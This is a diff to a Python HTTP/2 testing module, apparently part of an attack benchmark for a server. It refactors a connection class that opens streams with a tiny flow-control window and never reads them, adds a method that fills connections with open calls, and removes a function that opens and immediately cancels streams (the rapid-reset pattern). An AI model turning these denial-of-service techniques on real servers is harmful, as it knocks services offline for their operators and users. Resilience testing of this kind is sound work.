@@ -7,6 +7,8 @@ import socket
 import struct
 import threading
 
+from bench.attacks.http2_scripts import PREFACE
+from bench.attacks.target import connect
 from bench.performance.http2 import (
     ACK,
     DATA,
@@ -20,11 +22,9 @@ from bench.performance.http2 import (
     encode_message,
 )
 
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _INITIAL_WINDOW_SIZE = 4
 _SETTING = struct.Struct(">HI")
 _HEADER = struct.Struct(">HBBBI")
-_CANCEL = struct.pack(">I", 8)
 _READ_SIZE = 1 << 16
 _GOAWAY = 7
 
@@ -37,9 +37,8 @@ class DeafConnection:
 
     def __init__(self, address: str) -> None:
         """`address` is HOST:PORT. Raises OSError."""
-        host, _, port = address.rpartition(":")
-        self._socket = socket.create_connection((host, int(port)))
-        self._socket.sendall(_PREFACE + encode_frame(SETTINGS, 0, 0, _SETTING.pack(_INITIAL_WINDOW_SIZE, 0)))
+        self._socket = connect(address)
+        self._socket.sendall(PREFACE + encode_frame(SETTINGS, 0, 0, _SETTING.pack(_INITIAL_WINDOW_SIZE, 0)))
         self._next = 1
         self.open: set[int] = set()
         self.is_over = False
@@ -61,6 +60,14 @@ class DeafConnection:
             encode_frame(HEADERS, END_HEADERS, stream, headers)
             + encode_frame(DATA, END_STREAM, stream, encode_message(message))
         )
+
+    def fill(self, headers: bytes, count: int) -> None:
+        """Make calls without a request until `count` are open."""
+        try:
+            for _ in range(count - len(self.open)):
+                self.call(headers, b"")
+        except OSError:
+            self.is_over = True
 
     def _read(self) -> None:
         buffer = b""
@@ -89,27 +96,3 @@ class DeafConnection:
             elif kind == _GOAWAY:
                 self.is_over = True
         return data[start:]
-
-
-def encode_resets(headers: bytes, message: bytes, calls: int) -> bytes:
-    """Encode all bytes of a connection that makes calls and cancels each at once."""
-    frames = [_PREFACE + encode_frame(SETTINGS, 0, 0, b"")]
-    for stream in range(1, 2 * calls, 2):
-        frames.append(encode_frame(HEADERS, END_HEADERS, stream, headers))
-        frames.append(encode_frame(DATA, END_STREAM, stream, encode_message(message)))
-        frames.append(encode_frame(RESET, 0, stream, _CANCEL))
-    return b"".join(frames)
-
-
-def write_all(address: str, written: bytes) -> None:
-    """Connect, write and close, while a thread reads the answers and drops them. Raises OSError."""
-    host, _, port = address.rpartition(":")
-    with socket.create_connection((host, int(port))) as connected:
-        threading.Thread(target=_forget_received, args=(connected,), daemon=True).start()
-        connected.sendall(written)
-
-
-def _forget_received(connected: socket.socket) -> None:
-    with contextlib.suppress(OSError):
-        while connected.recv(_READ_SIZE):
-            pass
